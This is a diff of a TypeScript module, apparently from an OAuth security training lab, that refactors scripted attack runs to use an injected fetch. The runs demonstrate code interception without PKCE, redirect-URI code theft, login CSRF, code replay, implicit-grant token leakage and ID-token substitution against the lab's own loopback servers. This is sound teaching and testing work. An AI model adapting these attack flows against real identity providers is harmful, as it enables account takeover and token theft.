@@ -1,7 +1,8 @@
 import { OAUTH_ATTACK_IDS, type OAuthAttackId, type OAuthAttackResult } from '../../common/oauth';
 import type { ToggleName } from '../../common/toggles';
 import { randomToken } from '../crypto/random';
-import { API_SCOPE, type OAuthLab } from './index';
+import { API_SCOPE } from './settings';
+import type { OAuthServices } from './services';
 import { s256 } from './pkce';
 import { basicAuth, demoAccount, signInAndConsent } from './runs';
 import { ScriptedBrowser } from './scripted-browser';
@@ -25,7 +26,7 @@ const form = (params: Record<string, string>) => ({
   body: new URLSearchParams(params),
 });
 
-function authorizeUrl(lab: OAuthLab, params: Record<string, string>) {
+function authorizeUrl(lab: OAuthServices, params: Record<string, string>) {
   const url = new URL(`${lab.issuer()}/authorize`);
   url.search = new URLSearchParams({ response_type: 'code', ...params }).toString();
   return url.toString();
@@ -36,7 +37,7 @@ function authorizeUrl(lab: OAuthLab, params: Record<string, string>) {
  * would, with the toggles as they are now. The verdict comes from what the
  * servers actually did, never from reading the toggle.
  */
-export async function runAttack(lab: OAuthLab, id: AttackId): Promise<AttackResult> {
+export async function runAttack(lab: OAuthServices, id: AttackId): Promise<AttackResult> {
   lab.ensureDemoClients();
   const toggle = TOGGLE_OF[id];
   const defenceOn = lab.ctx.toggles.isOn(toggle);
@@ -57,7 +58,7 @@ export async function runAttack(lab: OAuthLab, id: AttackId): Promise<AttackResu
   switch (id) {
     case 'code-interception': {
       // A native app without PKCE; a malicious app on the same device grabs the loopback redirect.
-      const browser = new ScriptedBrowser();
+      const browser = new ScriptedBrowser(lab.fetch);
       const redirectUri = 'http://127.0.0.1:53682/callback';
       steps.push('The victim’s CLI (an old build) starts a login without PKCE, redirect to its loopback port.');
       const back = await signInAndConsent(
@@ -78,7 +79,7 @@ export async function runAttack(lab: OAuthLab, id: AttackId): Promise<AttackResu
         return done(false, 'Lab ID refuses an authorization request without PKCE, so there is no code to intercept.');
       }
       steps.push('A malicious app listening on the same port receives the redirect and reads the code.');
-      const stolen = await fetch(
+      const stolen = await lab.fetch(
         `${issuer}/token`,
         form({ grant_type: 'authorization_code', code, redirect_uri: redirectUri, client_id: 'lab-cli' }),
       );
@@ -92,7 +93,7 @@ export async function runAttack(lab: OAuthLab, id: AttackId): Promise<AttackResu
       );
     }
     case 'redirect-uri': {
-      const browser = new ScriptedBrowser();
+      const browser = new ScriptedBrowser(lab.fetch);
       const attackerUrl = `http://127.0.0.1:${new URL(origins.attacker).port}/oauth/steal`;
       const verifier = randomToken(32);
       steps.push(
@@ -118,7 +119,7 @@ export async function runAttack(lab: OAuthLab, id: AttackId): Promise<AttackResu
       }
       const code = new URL(location).searchParams.get('code') ?? '';
       steps.push('The victim signs in; Lab ID redirects to the attacker’s page with the code.');
-      const stolen = await fetch(
+      const stolen = await lab.fetch(
         `${issuer}/token`,
         form({
           grant_type: 'authorization_code',
@@ -135,13 +136,13 @@ export async function runAttack(lab: OAuthLab, id: AttackId): Promise<AttackResu
       );
     }
     case 'login-csrf': {
-      const attackerBrowser = new ScriptedBrowser();
+      const attackerBrowser = new ScriptedBrowser(lab.fetch);
       steps.push('The attacker starts "Log in with Lab ID" at Your App and signs in with the attacker’s own account.');
       const start = await attackerBrowser.request('GET', `${origins.client}/login`);
       const back = await signInAndConsent(lab, attackerBrowser, start.location ?? '', attacker);
       const callback = back.location ?? '';
       steps.push('The attacker stops before the callback and sends its URL (code + state) to the victim.');
-      const victimBrowser = new ScriptedBrowser();
+      const victimBrowser = new ScriptedBrowser(lab.fetch);
       const landed = await victimBrowser.request('GET', callback);
       const home = await victimBrowser.request('GET', `${origins.client}/`);
       const loggedInAsAttacker = home.text.includes(`Logged in as ${attacker.email}`);
@@ -158,7 +159,7 @@ export async function runAttack(lab: OAuthLab, id: AttackId): Promise<AttackResu
       );
     }
     case 'code-replay': {
-      const browser = new ScriptedBrowser();
+      const browser = new ScriptedBrowser(lab.fetch);
       const verifier = randomToken(32);
       const redirectUri = `${origins.client}/callback`;
       const back = await signInAndConsent(
@@ -176,7 +177,7 @@ export async function runAttack(lab: OAuthLab, id: AttackId): Promise<AttackResu
       );
       const code = new URL(back.location ?? redirectUri).searchParams.get('code') ?? '';
       const exchange = () =>
-        fetch(`${issuer}/token`, {
+        lab.fetch(`${issuer}/token`, {
           ...form({ grant_type: 'authorization_code', code, redirect_uri: redirectUri, code_verifier: verifier }),
           headers: {
             'content-type': 'application/x-www-form-urlencoded',
@@ -191,7 +192,7 @@ export async function runAttack(lab: OAuthLab, id: AttackId): Promise<AttackResu
       steps.push(
         `Second redemption: ${second.status} ${second.status === 200 ? 'a second set of tokens' : 'invalid_grant'}.`,
       );
-      const api = await fetch(`${origins.app}/api/oauth/resource`, {
+      const api = await lab.fetch(`${origins.app}/api/oauth/resource`, {
         headers: { authorization: `Bearer ${firstTokens.access_token ?? ''}` },
       });
       if (second.status !== 200)
@@ -206,7 +207,7 @@ export async function runAttack(lab: OAuthLab, id: AttackId): Promise<AttackResu
       );
     }
     case 'implicit-leak': {
-      const browser = new ScriptedBrowser();
+      const browser = new ScriptedBrowser(lab.fetch);
       steps.push('"Lab Notes" asks for response_type=token (the implicit grant).');
       const back = await signInAndConsent(
         lab,
@@ -230,13 +231,15 @@ export async function runAttack(lab: OAuthLab, id: AttackId): Promise<AttackResu
       steps.push(
         'History, extensions, any script on the page and a Referer-leaking link can read it; nothing binds it to the app.',
       );
-      const api = await fetch(`${origins.app}/api/oauth/resource`, { headers: { authorization: `Bearer ${token}` } });
+      const api = await lab.fetch(`${origins.app}/api/oauth/resource`, {
+        headers: { authorization: `Bearer ${token}` },
+      });
       steps.push(`Anyone holding it calls the API: ${api.status}.`);
       return done(api.status === 200, 'The token leaked through the URL fragment and works for whoever reads it.');
     }
     case 'id-token-substitution': {
       // The victim once logged in to "Lab Notes", which the attacker controls: it holds an ID token for the victim.
-      const browser = new ScriptedBrowser();
+      const browser = new ScriptedBrowser(lab.fetch);
       const verifier = randomToken(32);
       const redirectUri = `${origins.client}/spa/callback`;
       const back = await signInAndConsent(
@@ -255,7 +258,7 @@ export async function runAttack(lab: OAuthLab, id: AttackId): Promise<AttackResu
       );
       const code = new URL(back.location ?? redirectUri).searchParams.get('code') ?? '';
       const tokens = (await (
-        await fetch(
+        await lab.fetch(
           `${issuer}/token`,
           form({
             grant_type: 'authorization_code',
@@ -267,7 +270,7 @@ export async function runAttack(lab: OAuthLab, id: AttackId): Promise<AttackResu
         )
       ).json()) as Record<string, string>;
       steps.push('The victim signed in to "Lab Notes" (the attacker’s app); it holds an ID token with aud=lab-spa.');
-      const response = await fetch(`${origins.client}/id-token-login`, {
+      const response = await lab.fetch(`${origins.client}/id-token-login`, {
         method: 'POST',
         headers: { 'content-type': 'application/json' },
         body: JSON.stringify({ id_token: tokens.id_token ?? '' }),
